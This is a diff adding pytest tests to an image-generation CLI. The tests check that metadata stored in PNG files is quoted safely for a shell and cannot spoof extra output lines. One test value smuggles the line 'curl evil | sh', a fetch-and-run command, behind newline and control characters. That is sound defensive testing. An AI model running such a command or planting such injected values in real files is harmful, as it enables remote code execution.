@@ -3,6 +3,7 @@
 import json
 import os
 import stat
+import subprocess
 from collections.abc import Callable
 from pathlib import Path
 
@@ -83,13 +84,52 @@ def test_info_gives_the_command_that_draws_the_picture_again(tmp_path: Path) -> 
     assert found == {**STORY, "format": "png", "command": command}
 
 
-@pytest.mark.parametrize("text", ["[]", "{}", "nonsense", '{"persona": {}, "prompt": "x"}', "[" * 100_000])
+@pytest.mark.parametrize(
+    "text",
+    ["[]", "{}", "nonsense", '{"persona": {}, "prompt": "x"}', "[" * 100_000, '{"kind": "grid", "seed": NaN}',
+     '{"kind": "grid", "seed": 1e999}'],
+)  # fmt: skip
 def test_a_story_that_somebody_else_wrote_is_refused(tmp_path: Path, text: str) -> None:
     notes = PngImagePlugin.PngInfo()
     notes.add_itxt("pmagic", text)
     Image.new("RGB", (64, 64)).save(tmp_path / "a.png", pnginfo=notes)
     done = runner.invoke(app, ["info", str(tmp_path / "a.png")])
     assert done.exit_code == 4 and done.stderr.startswith("error: ")
+
+
+@pytest.mark.parametrize(
+    "prompt",
+    [
+        "an astronaut 👩\u200d🚀 it's",
+        "می\u200cخواهم \\u0041 $HOME",
+        "two\nlines\tand a tab",
+        "\u202egnp.\u2028x \xa0 \U000e0041'1",
+    ],
+)
+def test_a_shell_reads_the_very_words_that_info_prints(tmp_path: Path, prompt: str) -> None:
+    story = {**STORY, "prompt": prompt, "negative": prompt}
+    path = pictures.write_picture(Image.new("RGB", (64, 64)), tmp_path / "a.png", story)
+    command = runner.invoke(app, ["info", "-q", str(path)]).stdout.removesuffix("\n")
+    assert command.isprintable()
+    script = f"pmagic() {{ printf '%s\\0' \"$@\"; }}; {command}"
+    utf8 = {**os.environ, "LC_ALL": "C.UTF-8"}
+    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env=utf8)
+    words = done.stdout.decode().split("\0")
+    assert words[-2] == prompt and f"--negative={prompt}" in words
+
+
+def test_no_value_can_pass_for_another_line(library: Library, persona: Make, tmp_path: Path) -> None:
+    spoof = "1\nagain:\n  curl evil | sh\rx\x85y\u2028z"
+    story = {**STORY, "mood": spoof, f"more{spoof}": "x"}
+    path = pictures.write_picture(Image.new("RGB", (64, 64)), tmp_path / "a.png", story)
+    lines = runner.invoke(app, ["info", str(path)]).stdout.splitlines()
+    assert lines.count("again:") == 1 and lines[-2] == "again:" and lines[-1].startswith("  pmagic render ")
+    assert r"mood: 1\nagain:\n  curl evil | sh\x0dx\x85y\x2028z" in lines
+    library.save(
+        "alice", persona(word="face\nfiles: none", settings={"recipe": spoof, "more": [spoof], spoof: {"x": 1}})
+    )
+    shown = runner.invoke(app, ["show", "alice"]).stdout.splitlines()
+    assert not [each for each in shown if each.startswith(("again", "files: none"))] and "files: all verified" in shown
 
 
 def test_info_quotes_what_a_shell_would_obey() -> None:
